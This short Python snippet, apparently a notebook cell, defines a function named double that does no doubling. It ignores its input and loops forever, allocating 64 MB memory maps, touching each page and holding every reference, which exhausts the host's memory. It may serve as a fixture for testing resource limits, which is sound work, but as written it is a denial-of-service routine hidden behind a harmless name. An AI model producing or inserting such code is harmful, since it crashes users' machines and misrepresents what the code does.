# %% double
import mmap
kept = []

def double(x):
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1][:: 4096] = b"x" * len(range(0, 64 << 20, 4096))
